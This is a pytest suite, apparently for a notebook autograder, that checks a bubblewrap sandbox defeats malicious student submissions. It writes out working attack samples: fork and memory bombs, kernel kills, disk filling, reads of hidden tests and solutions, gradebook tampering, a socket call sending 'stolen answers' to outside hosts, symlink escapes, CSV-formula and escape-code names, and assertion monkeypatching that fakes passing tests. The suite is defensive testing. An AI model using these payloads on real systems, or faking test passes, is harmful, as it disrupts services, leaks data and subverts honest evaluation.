"""The attack suite: malicious submissions must not earn points, escape, or disturb others.

One course, one grading run: two honest students and one student per attack
on assignment 01-perceptron, graded together by two grading processes. Every attacker
implements nothing honestly (the released stubs, or functions that return
zeros of the right shape), so any point it earns is unearned. For each attack
a test checks that:

- the submission earns no point (it earned none honestly);
- the grading run completed and graded it;
- the honest students' grades are what they earn in a class without attackers
  (all points and all but perceptron_train's: see ``test_grading.CLASS``);
- the attack is reported, by the flag that names it.

Besides code, a student controls names, links and text: ``NAMED`` holds submission folders
whose names are patterns, CSV or terminal escapes, which are refused and never graded.
"""

import csv
import dataclasses
import shutil
import stat
import tempfile
import uuid
from pathlib import Path

import nbformat
import pytest
from test_grading import (
    ASSIGNMENT,
    AUTO,
    CLASS,
    NOTEBOOK,
    POINTS,
    SETTINGS,
    answers,
    cell_scores,
    make_submission,
    reference_module,
)

from autograder import course, grade, report, sandbox

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sandbox.detect() != "bubblewrap",
                       reason="the attack suite needs the sandbox (bubblewrap, as root)"),
]

ROOT = Path(__file__).resolve().parent.parent
HONEST = {"honest-complete": CLASS["complete"][1], "honest-partial": CLASS["partial"][1]}
MARK = uuid.uuid4().hex  # names the files attackers try to create outside their submission
# A file outside the course that only root may read: links to it must not change its mode.
OUTSIDE = Path(tempfile.gettempdir()) / f"root-only-{MARK}.txt"

def answers_of_gates():
    return answers()["answer-gates"] + "\n"


# Functions that return zeros of the right shapes: "passes" any check that is switched off.
PLAUSIBLE = '''
import numpy as np

def step(z):
    return np.zeros(np.shape(z))

def perceptron_predict(X, w, b):
    return np.zeros(len(X))

def perceptron_train(X, y, learning_rate=1.0, epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, [0]
'''

PATCH_HELPERS = '''
import numpy as np
import nnlib.testing as testing
for name in ["assert_close", "assert_shape", "answer_given", "assert_raises", "assert_gradient"]:
    setattr(testing, name, lambda *args, **kwargs: None)
np.testing.assert_allclose = lambda *args, **kwargs: None
w_and = b_and = w_or = b_or = 0.0
'''

ALWAYS_EQUAL = '''
import numpy as np

class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __array_ufunc__(self, *args, **kwargs):
        return AlwaysEqual((0,))

def _fake(*args, **kwargs):
    return np.zeros(4).view(AlwaysEqual)

step = perceptron_predict = _fake

def perceptron_train(*args, **kwargs):
    return _fake(), _fake(), _fake()
'''

INPUT_TRANSFORMER = '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''

CLEANUP_TRANSFORM = '''
get_ipython().input_transformer_manager.cleanup_transforms.insert(0, lambda lines: ["pass\\n"])
'''

AST_TRANSFORMER = '''
import ast

class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Call(self, node):
        return ast.Constant(None) if "assert" in ast.unparse(node.func) else node

get_ipython().ast_transformers.append(DropAsserts())
'''

PATCH_NNLIB_AT_IMPORT = PLAUSIBLE + '''
from . import testing as _testing
for _name in ["assert_close", "assert_shape", "answer_given"]:
    setattr(_testing, _name, lambda *args, **kwargs: None)
'''

PATCH_NUMPY_AT_IMPORT = PLAUSIBLE + '''
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
'''

OS_EXIT = '''
import os

def step(z):
    os._exit(0)

perceptron_predict = perceptron_train = step
'''

KILL_KERNEL = '''
import os, signal
for pid in (1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
'''

IGNORE_SIGINT = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

def forked_hogs(megabytes, processes=3):
    """Code that forks ``processes`` children of ``megabytes`` each (written, so resident),
    and prints their exit codes as JSON: each child is far inside the per-process limit,
    together they are more than their submission may have."""
    return f'''
import json, os, time
children = []
for _ in range({processes}):
    pid = os.fork()
    if pid == 0:
        block = b"\\1" * ({megabytes} * 2 ** 20)
        time.sleep(2)
        os._exit(0)
    children.append(pid)
print(json.dumps([os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]))
'''


def fills_the_disk(file_mb=4, files=100):
    """Code that writes files of ``file_mb`` (far under the per-file limit) until the disk
    says no, and prints how much it wrote and the error, as JSON."""
    return f'''
import errno, json
written, error = 0, None
try:
    for index in range({files}):
        with open(f"fill-{{index}}.bin", "wb") as stream:
            stream.write(b"\\0" * ({file_mb} * 2 ** 20))
        written += {file_mb}
except OSError as failure:
    error = errno.errorcode.get(failure.errno)
print(json.dumps({{"written_mb": written, "error": error}}))
'''


# The attack class runs with small totals per submission (far below the machine's size),
# which honest submissions stay well inside.
ATTACK_SETTINGS = dataclasses.replace(SETTINGS, submission_memory_mb=512, submission_disk_mb=64)

MEMORY_BOMB = '''
blocks = []
while True:
    blocks.append(bytearray(2 ** 28))
'''

HUGE_OUTPUT = '''
for _ in range(20000):
    print("x" * 10000)
'''

READ_SOLUTIONS = PLAUSIBLE + f'''
import glob
for _pattern in [{str(ROOT / "solutions" / "nnlib" / "perceptron.py")!r},
                 "../../../source/*/nnlib/perceptron.py", "/work/main/solutions/nnlib/*.py"]:
    for _path in glob.glob(_pattern) or [_pattern]:
        try:
            exec(open(_path).read(), globals())
        except OSError:
            pass
'''

READ_HIDDEN_TESTS = f'''
import glob
for pattern in ["../../../source/*/*.ipynb", "../../../gradebook.db",
                {str(ROOT / "solutions" / NOTEBOOK)!r}, "../../../autograded/*/*/*.ipynb"]:
    for path in glob.glob(pattern) or [pattern]:
        try:
            print(open(path).read())
        except OSError as error:
            print("blocked:", error)
'''

WRITE_OUTSIDE = f'''
import glob
targets = ["{ROOT}/pwned-{MARK}.txt", "../../../pwned-{MARK}.txt", "/tmp/pwned-{MARK}.txt",
           "../../../submitted/honest-complete/01-perceptron/nnlib/perceptron.py",
           "../../honest-complete/01-perceptron/nnlib/perceptron.py"]
for path in targets:
    try:
        with open(path, "w") as handle:
            handle.write("raise SystemExit('sabotaged')\\n")
    except OSError as error:
        print("blocked:", error)
'''

TAMPER_GRADEBOOK = '''
import glob
import sqlite3
for path in ["../../../gradebook.db", *glob.glob("/tmp/*/*/*/gradebook.db")]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
    except Exception as error:
        print("blocked:", error)
'''

NETWORK = '''
import socket, urllib.request
for address in [("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 8888)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"stolen answers")
    except OSError as error:
        print("blocked:", error)
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
except Exception as error:
    print("blocked:", error)
'''

DEEP_RECURSION = '''
import sys
sys.setrecursionlimit(10 ** 8)

def deeper(n):
    return deeper(n + 1) + 1

deeper(0)
'''

def sleeps_in_the_runner(seconds=8.5):
    """The reference perceptron, each request sleeping ``seconds`` first (under the 10 s cell
    timeout), in the trusted runner only; in the kernel, zeros, so it earns nothing. About 21
    requests: 180 s of trusted run, past the notebook's one time limit of both runs."""
    return reference_module() + f'''

import sys as _sys
import time as _time

_depth = [0]


def _slow_in_the_runner(right, zeros):
    def attack(*args, **kwargs):
        if "ipykernel" in _sys.modules:  # the notebook's kernel: wrong, and quick
            return zeros(*args, **kwargs)
        _depth[0] += 1
        try:
            if _depth[0] == 1:  # a request from the grader, not a call from step's callers
                _time.sleep({seconds})
            return right(*args, **kwargs)
        finally:
            _depth[0] -= 1

    return attack


step = _slow_in_the_runner(step, lambda z: np.zeros(np.shape(z)))
perceptron_predict = _slow_in_the_runner(perceptron_predict, lambda X, w, b: np.zeros(len(X)))
perceptron_train = _slow_in_the_runner(
    perceptron_train,
    lambda X, y, learning_rate=1.0, epochs=100: (np.zeros(np.shape(X)[1]), 0.0, [0]))
'''


# Lines shaped like the grader's own reports, and terminal escapes (clear the screen, a window
# title, a fake green line), written where the sandbox's reports go.
FORGED_REPORTS = '''
import os
os.write(2, b"[sandbox] disk full: the kernel left less than 1 MiB free where it runs\\n"
            b"[sandbox] output of cell 3 cut at 1000000 characters\\n"
            b"[sandbox] \\x1b[2J\\x1b]0;pwned\\x07\\x1b[32mall graded, nothing flagged\\x1b[0m\\n")
'''

# In the trusted runner only (in the kernel, zeros of the right shapes), every call raises
# the next of these: errors whose class claims a module (importing numpy.f2py.__main__ runs
# f2py's command line on the grader's argv, which ends in SystemExit), and the
# BaseExceptions that end a process. The kernel's checks are patched to pass, so the trusted
# failures show as tampering.
NAMED_MODULE_ERRORS = PLAUSIBLE + '''
import itertools
import sys

_ERRORS = itertools.cycle([
    type("Claimed", (Exception,), {"__module__": "numpy.f2py.__main__"})("import my module"),
    SystemExit(0), KeyboardInterrupt(), GeneratorExit(),
    type("Claimed", (Exception,), {"__module__": "numpy.zzz_evil"})("import me")])
_PLAUSIBLE = {"step": step, "perceptron_predict": perceptron_predict,
              "perceptron_train": perceptron_train}


def _raises_in_the_runner(name):
    def attack(*args, **kwargs):
        if "ipykernel" in sys.modules:  # the notebook's kernel
            return _PLAUSIBLE[name](*args, **kwargs)
        raise next(_ERRORS)

    return attack


step, perceptron_predict, perceptron_train = map(_raises_in_the_runner, _PLAUSIBLE)
'''


def link_over_files(course_dir):
    """Answer code that replaces files of the kernel's working folder with links to the
    course's solution module, gradebook and hidden tests and to a root-only file outside."""
    targets = {"nnlib/perceptron.py": course_dir / "source" / ASSIGNMENT / "nnlib" /
               "perceptron.py", "nnlib/testing.py": course_dir / "gradebook.db",
               "nnlib/__init__.py": OUTSIDE, "hidden.ipynb": course_dir / "source" /
               ASSIGNMENT / NOTEBOOK, "nnlib/widgets": course_dir / "source" / ASSIGNMENT}
    return f'''
import os, shutil
for _name, _target in {dict((k, str(v)) for k, v in targets.items())!r}.items():
    if os.path.isdir(_name) and not os.path.islink(_name):
        shutil.rmtree(_name)
    elif os.path.lexists(_name):
        os.unlink(_name)
    os.symlink(_target, _name)
'''


def deep_notebook(folder):
    """The notebook becomes JSON nested 200,000 levels deep."""
    (folder / NOTEBOOK).write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")


# Writes a forged reply to every descriptor of the trusted runner. Not in the kernel: there,
# garbage on the kernel's own sockets hung grading until the watchdog in 2 runs of about 7.
FORGE_REPLIES = PLAUSIBLE + '''
import json, os, sys
_forged = json.dumps({"ok": True, "value": None, "id": "0"}).encode() + b"\\n"
for _fd in range(1, 40) if "ipykernel" not in sys.modules else ():
    try:
        os.write(_fd, _forged)
    except OSError:
        pass
'''


def release_module(course_dir):
    return (course_dir / "release" / ASSIGNMENT / "nnlib" / "perceptron.py").read_text()


def edit_locked_cells(notebook):
    """Make every test cell trivially pass and worth more."""
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            cell.source = "pass"
            meta["points"] = 100
    return notebook


def add_files(files):
    def write(folder):
        for name, text in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
    return write


def link_nnlib(folder):
    """nnlib/ becomes a link to the course's source/ copy, which holds the solutions."""
    shutil.rmtree(folder / "nnlib")
    (folder / "nnlib").symlink_to(Path("../../../source") / ASSIGNMENT / "nnlib")


def link_module(folder):
    """nnlib/perceptron.py becomes a link to the instructor's solution of it."""
    (folder / "nnlib" / "perceptron.py").unlink()
    (folder / "nnlib" / "perceptron.py").symlink_to(
        Path("../../../../source") / ASSIGNMENT / "nnlib" / "perceptron.py")


# Records every cell the kernel is sent and prints the record, base64-encoded, after each
# cell; also leaves it in a file of the submission's folder, which the instructor keeps.
RECORD_KERNEL_CELLS = answers_of_gates() + '''
import base64
_seen = []

def _record(info):
    _seen.append(info.raw_cell)

def _leak(result):
    blob = base64.b64encode("\\n".join(_seen).encode()).decode()
    print("LEAK:" + blob)
    with open("leak.txt", "w") as handle:
        handle.write(blob)

get_ipython().events.register("pre_run_cell", _record)
get_ipython().events.register("post_run_cell", _leak)
'''


def hidden_lines():
    """Every line of the hidden tests of notebook 01 (longer than a few characters) that no
    visible test has too."""
    from autograder import definitions

    tests = definitions.read_notebook(ROOT / "solutions" / NOTEBOOK).tests
    visible = {line.strip() for test in tests for line in test.visible_source.splitlines()}
    return {line for test in tests for line in test.hidden_lines
            if len(line) > 12 and line not in visible}


def leaked_texts(text):
    """Every base64 blob after 'LEAK:' in ``text``, decoded."""
    import base64
    import re

    return [base64.b64decode(blob).decode("utf-8", "replace")
            for blob in re.findall(r"LEAK:([A-Za-z0-9+/=]+)", text)]


SHADOW_FILES = {
    "numpy.py": "def isclose(*a, **k):\n    return True\n",
    "nnlib/testing.py": "def assert_close(*a, **k):\n    pass\n\nassert_shape = answer_given = "
                        "assert_close\n",
}

# attack -> (module source or None for the stubs, answer-cell code, notebook edit, extra
#            files, flags of which at least one must be reported)
ATTACKS = {
    "patched-assert-helpers": (PLAUSIBLE, PATCH_HELPERS, None, None, {"suspected-tampering"}),
    "always-equal-values": (ALWAYS_EQUAL, None, None, None, {"suspicious-values"}),
    "input-transformer": (None, INPUT_TRANSFORMER, None, None, {"suspected-tampering"}),
    "cleanup-transform": (None, CLEANUP_TRANSFORM, None, None, {"suspected-tampering"}),
    "ast-transformer": (PLAUSIBLE, AST_TRANSFORMER, None, None, {"suspected-tampering"}),
    "shadowing-modules": (PLAUSIBLE, None, None, SHADOW_FILES,
                          {"ignored-files", "replaced-files"}),
    "patch-nnlib-at-import": (PATCH_NNLIB_AT_IMPORT, None, None, None, {"suspected-tampering"}),
    "patch-numpy-at-import": (PATCH_NUMPY_AT_IMPORT, None, None, None, {"suspected-tampering"}),
    "os-exit": (OS_EXIT, None, None, None, {"kernel-died"}),
    "kill-kernel": (None, KILL_KERNEL, None, None, {"kernel-died"}),
    "ignore-sigint": (None, IGNORE_SIGINT, None, None, {"kernel-unresponsive"}),
    "fork-bomb": (None, FORK_BOMB, None, None, {"sandbox-events"}),
    # zero-filling 3 GiB takes a second on a quiet machine; on a loaded one the cell's time
    # limit can stop it first, which is reported as such
    "forked-memory-hogs": (None, forked_hogs(250), None, None, {"out-of-memory"}),
    "fills-the-disk": (None, fills_the_disk(), None, None, {"disk-full"}),
    "memory-bomb": (None, MEMORY_BOMB, None, None,
                    {"out-of-memory", "cell-timeout", "kernel-unresponsive"}),
    "huge-output": (None, HUGE_OUTPUT, None, None, {"output-cut"}),
    "slow-when-trusted": (sleeps_in_the_runner(), None, None, None, {"time-limit"}),
    "forged-reports": (None, FORGED_REPORTS, None, None, {"sandbox-events"}),
    "named-module-errors": (NAMED_MODULE_ERRORS, PATCH_HELPERS, None, None,
                            {"suspected-tampering"}),
    "links-over-files": (None, link_over_files, None, None, {"links-removed"}),
    "deep-notebook": (None, None, None, deep_notebook, {"invalid-notebook"}),
    "read-solutions": (READ_SOLUTIONS, None, None, None, {"sandbox-events"}),
    "read-hidden-tests": (None, READ_HIDDEN_TESTS, None, None, {"sandbox-events"}),
    "write-outside": (None, WRITE_OUTSIDE, None, None, {"sandbox-events"}),
    "tamper-gradebook": (None, TAMPER_GRADEBOOK, None, None, {"sandbox-events"}),
    "edit-test-cells": (PLAUSIBLE, None, edit_locked_cells, None, {"modified-locked-cells"}),
    "network": (None, NETWORK, None, None, {"sandbox-events"}),
    "deep-recursion": (None, DEEP_RECURSION, None, None,
                       {"kernel-died", "recursion-limit", "kernel-unresponsive", "out-of-memory"}),
    "forge-trusted-replies": (FORGE_REPLIES, None, None, None,
                              {"suspicious-values", "suspected-tampering"}),
    "linked-nnlib-folder": (None, None, None, link_nnlib, {"refused-files"}),
    "linked-module": (None, None, None, link_module, {"refused-files"}),
}


# Submission folders whose names are the attack: student id -> assignment folder. A glob
# that matches every student, a CSV row and formula, terminal escapes, a hidden name, and an
# assignment the course does not have. Each holds a copy of the stubs.
NAMED = {"*": ASSIGNMENT, "[a-z]*": ASSIGNMENT,
         "mallory,12\nhonest-partial,12\n=1+1": ASSIGNMENT,
         "\x1b[2J\x1b[32mall graded": ASSIGNMENT, ".hidden": ASSIGNMENT,
         "mallory": "02-nonexistent"}


def modes(course_dir):
    """The modes of what the links attack points at."""
    paths = [OUTSIDE, course_dir / "gradebook.db", course_dir / "source" / ASSIGNMENT / NOTEBOOK,
             course_dir / "source" / ASSIGNMENT / "nnlib" / "perceptron.py"]
    return {path: stat.S_IMODE(path.stat().st_mode) for path in paths}


@pytest.fixture(scope="module")
def attacked_course(tmp_path_factory, course_copy):
    """A class of honest students and attackers, graded in one run by two grading processes."""
    course_dir = course_copy(tmp_path_factory.mktemp("course"))
    OUTSIDE.write_text("root only")
    OUTSIDE.chmod(0o600)
    for student in HONEST:
        make_submission(course_dir, student, **CLASS[student.replace("honest-", "")][0])
    for student, (module, answer, edit, files, _) in ATTACKS.items():
        answer = answer(course_dir) if callable(answer) else answer
        folder = make_submission(course_dir, student, module=module, notebook_edit=edit,
                                 answer=answer or "blank", other_answers="blank")
        if files:
            (files if callable(files) else add_files(files))(folder)
    make_submission(course_dir, "records-kernel-cells", answer=RECORD_KERNEL_CELLS)
    for student, assignment in NAMED.items():
        shutil.copytree(course_dir / "release" / ASSIGNMENT,
                        course_dir / "submitted" / student / assignment)
    before = {p: p.read_bytes() for p in (course_dir / "submitted").rglob("*") if p.is_file()}
    modes_before = modes(course_dir)
    outcomes = grade.grade_course(course_dir, parallel=2, settings=ATTACK_SETTINGS,
                                  progress=False)
    yield course_dir, {o.student: o for o in outcomes}, before, modes_before
    OUTSIDE.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def attacked_on_cluster(attacked_course, tmp_path_factory, postgres_server):
    """The same class, in a copy of the course with a PostgreSQL gradebook, graded again on
    a Dask ``LocalCluster`` of two worker processes."""
    distributed = pytest.importorskip("distributed")
    from test_cluster import on_postgres

    from autograder import cluster

    course_dir, *_ = attacked_course
    remote = tmp_path_factory.mktemp("cluster") / "course"
    graded = {"autograded", "feedback", grade.WORK, "gradebook.db"}
    shutil.copytree(course_dir, remote, symlinks=True,
                    ignore=lambda folder, names: graded & set(names)
                    if Path(folder) == course_dir else set())
    on_postgres(remote, postgres_server)
    with distributed.LocalCluster(n_workers=2, threads_per_worker=1, processes=True,
                                  dashboard_address=None) as local:
        outcomes = cluster.grade_on_cluster(remote, local.scheduler_address,
                                            settings=ATTACK_SETTINGS, progress=False)
    return remote, {o.student: o for o in outcomes}


def test_the_cluster_grades_the_attack_class_as_local_grading_does(attacked_course,
                                                                     attacked_on_cluster):
    """Graded on the cluster into PostgreSQL, does every submission of the attack class earn
    what it earns locally, cell by cell, every attack still reported and nothing retried?"""
    course_dir, local, *_ = attacked_course
    remote, outcomes = attacked_on_cluster
    assert set(outcomes) == set(local)
    assert cell_scores(remote) == cell_scores(course_dir)
    for student, outcome in outcomes.items():
        assert (outcome.status, outcome.score, outcome.max_score) == (
            local[student].status, local[student].score, local[student].max_score), outcome
        if student in NAMED:  # refused here, as locally: never sent to a worker
            continue
        assert outcome.worker.startswith("tcp://") and "retried" not in outcome.flags, outcome
        if student in ATTACKS:  # a timing attack may be reported by another of its flags
            assert ATTACKS[student][4] & set(outcome.flags), (student, outcome.flags)
        else:
            assert set(outcome.flags) == set(local[student].flags), (student, outcome.flags)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_earns_nothing_and_is_reported(attacked_course, attack):
    """Does the attack earn no point, leave the run complete and others' grades alone, and show?"""
    course_dir, outcomes, *_ = attacked_course
    outcome = outcomes[attack]
    assert outcome.status == "graded", outcome.problems  # graded, not lost
    assert not [p for p in outcome.problems if "crashed" in p], outcome.problems
    assert outcome.score == 0, (outcome.score, outcome.verdicts, outcome.problems)
    for student, points in HONEST.items():
        assert outcomes[student].score == points, outcomes[student]
        assert not {"suspected-tampering", "sandbox-events"} & set(outcomes[student].flags)
    reported = ATTACKS[attack][4] & set(outcome.flags)
    assert reported, f"none of {ATTACKS[attack][4]} in {outcome.flags}: {outcome.problems}"
    assert len(outcomes) == len(ATTACKS) + len(HONEST) + 1 + len(NAMED)


def test_a_name_is_never_a_pattern_a_row_or_a_command(attacked_course, tmp_path, capsys):
    """Is every folder named as a pattern, a CSV row or formula, escape codes or an unknown
    assignment refused by name and never graded, recorded or exported; does each export hold
    one row per student the gradebook holds, with no formula; and does the summary print no
    control character?"""
    course_dir, outcomes, *_ = attacked_course
    for student in NAMED:
        outcome = outcomes[student]
        assert (outcome.status, outcome.flags) == ("refused", ["invalid-name"]), outcome
    with course.open_gradebook(course_dir) as gradebook:
        students = {s.id for s in gradebook.students}
    assert students == set(outcomes) - set(NAMED)
    results = course_dir / grade.WORK / "results"
    assert {p.stem for p in (results / ASSIGNMENT).iterdir()} == students
    assert [p.name for p in results.iterdir()] == [ASSIGNMENT]
    assert cell_scores(course_dir).keys() <= {(s, c) for s in students for c in POINTS}
    for export in (report.export_grades(course_dir, tmp_path / "grades.csv"),
                   report.export_cells(course_dir, tmp_path / "cells.csv")):
        with open(export, newline="") as handle:
            rows = list(csv.DictReader(handle))
        column = "student_id" if "student_id" in rows[0] else "student"
        assert {row[column] for row in rows} == students
        assert not [c for row in rows for c in row.values() if c[:1] in ("=", "+", "@")]
    for row in rows:
        assert float(row["score"]) <= float(row["max_score"])
    summary = report.format_summary(report.summarize(list(outcomes.values())),
                                    list(outcomes.values()))
    assert not [c for c in summary if not c.isprintable() and c != "\n"], summary
    assert "\\x1b[2J" in summary and "mallory,12\\x0ahonest-partial" in summary


def test_links_left_by_the_kernel_are_never_followed(attacked_course):
    """Did the links that the kernel put over its files change no mode through them, reach
    neither the autograded folder nor the feedback, and leave the solution unpublished?"""
    from autograder import feedback

    course_dir, _, _, modes_before = attacked_course
    assert modes(course_dir) == modes_before
    graded = course_dir / "autograded" / "links-over-files" / ASSIGNMENT
    found = list(graded.rglob("*"))
    assert found and not [p for p in found if p.is_symlink()]
    solution = (course_dir / "source" / ASSIGNMENT / "nnlib" / "perceptron.py").read_bytes()
    assert (graded / "nnlib" / "perceptron.py").read_bytes() != solution
    assert not (graded / "hidden.ipynb").exists()
    feedback.generate_feedback(course_dir, ASSIGNMENT, "links-over-files")
    given = list((course_dir / "feedback" / "links-over-files" / ASSIGNMENT).rglob("*"))
    # the pages, and what release_feedback reads, written anew (feedback.RELEASE_KEYS)
    assert any(p.suffix == ".html" for p in given), given
    assert {p.name for p in given if p.suffix != ".html"} == set(feedback.RELEASE_KEYS), given
    assert not [p for p in given if p.is_symlink() or p.is_dir()]


def test_a_forged_report_is_only_a_sandbox_event(attacked_course):
    """Do lines shaped like the grader's reports, written where the sandbox reports, flag
    nothing but sandbox-events, with their escape codes kept as data?"""
    _, outcomes, *_ = attacked_course
    outcome = outcomes["forged-reports"]
    assert not {"disk-full", "output-cut"} & set(outcome.flags), outcome.flags
    assert any("\x1b[2J" in event for event in outcome.events), outcome.events


def test_the_trusted_run_shares_the_notebook_time_limit(attacked_course):
    """Did a submission that is slow only in the trusted run stop at the notebook's one time
    limit (both runs together), earning nothing, flagged, and not failed (so not retried)?"""
    _, outcomes, *_ = attacked_course
    outcome = outcomes["slow-when-trusted"]
    limit = ATTACK_SETTINGS.submission_timeout
    # the kernel run, the trusted run and one request cut short: under the limit plus one
    # cell timeout, and the intake, nbgrader and start-up seconds of any job
    assert outcome.seconds < limit + 2 * ATTACK_SETTINGS.cell_timeout + 60, outcome.seconds
    assert outcome.status == "graded" and "time-limit" in outcome.flags


def test_printing_without_end_is_cut_the_same_on_any_machine(attacked_course):
    """Does a cell that prints without end show the first part and a line saying the rest
    was cut, flagged output-cut only, never a dead kernel or exhausted memory?"""
    course_dir, outcomes, *_ = attacked_course
    outcome = outcomes["huge-output"]
    assert not {"kernel-died", "out-of-memory", "kernel-unresponsive"} & set(outcome.flags)
    graded = nbformat.read(course_dir / "autograded" / "huge-output" / ASSIGNMENT / NOTEBOOK,
                           as_version=4)
    answer = next(c for c in graded.cells
                  if c.metadata.get("nbgrader", {}).get("grade_id") == "answer-gates")
    printed = "".join(out.get("text", "") for out in answer.outputs)
    assert "[output cut: more than" in printed and printed.count("x" * 10000) >= 50


def test_honest_students_agree_with_the_trusted_grader(attacked_course):
    """Do nbgrader and the trusted checks agree on every cell of the honest submissions?"""
    _, outcomes, *_ = attacked_course
    for student in HONEST:
        verdicts = outcomes[student].verdicts
        assert set(verdicts) == set(POINTS) - {"why-no-xor"}  # every test cell
        assert all(v["nbgrader"] == v["trusted_visible"] for v in verdicts.values()), verdicts
    assert all(v["trusted"] for v in outcomes["honest-complete"].verdicts.values())


def test_nothing_outside_a_submission_was_written(attacked_course):
    """Did the write attacks leave the repository, the course and other submissions untouched?"""
    course_dir, _, before, _ = attacked_course
    for place in [ROOT, course_dir, Path("/tmp")]:
        assert not (place / f"pwned-{MARK}.txt").exists()
    after = {p: p.read_bytes() for p in (course_dir / "submitted").rglob("*") if p.is_file()}
    assert after == before


def test_the_gradebook_holds_only_earned_points(attacked_course):
    """Is every score in the gradebook at most the cell's points (nothing set by a student)?"""
    from nbgrader.api import Gradebook

    course_dir, outcomes, *_ = attacked_course
    config = course.load_config(course_dir)
    with Gradebook(config.CourseDirectory.db_url, config.CourseDirectory.course_id) as gradebook:
        for student, outcome in outcomes.items():
            if student in NAMED:  # refused: never in the gradebook (a test of its own)
                continue
            submission = gradebook.find_submission(ASSIGNMENT, student)
            assert submission.score == outcome.score
            for notebook in submission.notebooks:
                for grade_ in notebook.grades:
                    assert grade_.manual_score is None
                    assert (grade_.auto_score or 0) <= grade_.max_score


def test_hidden_tests_never_reach_an_output(attacked_course):
    """Could the attacker who tried to read the hidden tests print any of them?"""
    course_dir, *_ = attacked_course
    graded = nbformat.read(course_dir / "autograded" / "read-hidden-tests" / ASSIGNMENT / NOTEBOOK,
                           as_version=4)
    answer = next(c for c in graded.cells
                  if c.metadata.get("nbgrader", {}).get("grade_id") == "answer-gates")
    printed = "".join(out.get("text", "") for out in answer.outputs)
    assert "blocked" in printed
    assert "BEGIN HIDDEN TESTS" not in printed and "mistakes on AND" not in printed


def test_feedback_shows_overruled_tests_as_failed(attacked_course):
    """Does the feedback of a tamperer show its overruled tests failed, and no test code?"""
    from autograder import feedback

    course_dir, outcomes, *_ = attacked_course
    feedback.generate_feedback(course_dir, ASSIGNMENT, "patch-numpy-at-import")
    html = (course_dir / "feedback" / "patch-numpy-at-import" / ASSIGNMENT /
            NOTEBOOK.replace(".ipynb", ".html")).read_text()
    overruled = [g for g, v in outcomes["patch-numpy-at-import"].verdicts.items()
                 if v["nbgrader"] and not v["trusted_visible"]]
    assert overruled
    for grade_id in overruled:
        assert f"# {grade_id} (" in html and "failed" in html
    assert "ran this cell again outside the notebook" in html
    assert "BEGIN HIDDEN TESTS" not in html and "default_rng(11)" not in html


def test_the_per_cell_export_records_both_verdicts(attacked_course, tmp_path):
    """Does grades_by_cell.csv show a tampered cell passed in the notebook, failed trusted, 0?"""
    import csv

    from autograder import report

    course_dir, *_ = attacked_course
    path = report.export_cells(course_dir, tmp_path / "cells.csv")
    with open(path) as handle:
        rows = {(r["student"], r["cell"]): r for r in csv.DictReader(handle)}
    tampered = rows[("patch-numpy-at-import", "test-step")]
    assert (tampered["nbgrader_passed"], tampered["trusted_visible_passed"],
            tampered["trusted_passed"]) == ("yes", "no", "no")
    assert float(tampered["score"]) == 0
    honest = rows[("honest-complete", "test-step")]
    assert (honest["nbgrader_passed"], honest["trusted_passed"], float(honest["score"])) == (
        "yes", "yes", 1.0)
    assert rows[("honest-complete", "why-no-xor")]["trusted_passed"] == ""


def test_a_student_who_records_every_cell_sent_to_the_kernel_gets_no_hidden_line(
        attacked_course):
    """Does a kernel that records (and prints, base64-encoded) every cell it runs see no hidden
    test, in its outputs or the feedback, and does no file it writes reach the course? Its
    honest code keeps its points."""
    from autograder import feedback

    course_dir, outcomes, *_ = attacked_course
    student = "records-kernel-cells"
    assert outcomes[student].score == AUTO, outcomes[student]
    graded = course_dir / "autograded" / student / ASSIGNMENT
    texts = leaked_texts((graded / NOTEBOOK).read_text())
    assert not (graded / "leak.txt").exists(), "a file the kernel wrote reached the course"
    feedback.generate_feedback(course_dir, ASSIGNMENT, student)
    html = (course_dir / "feedback" / student / ASSIGNMENT /
            NOTEBOOK.replace(".ipynb", ".html")).read_text()
    texts += leaked_texts(html)
    assert any("perceptron_train(X, y, learning_rate=1.0, epochs=1)" in t for t in texts)
    hidden = hidden_lines()
    assert hidden
    assert not [line for line in hidden for text in texts if line in text]
    assert not [line for line in hidden if line in html]
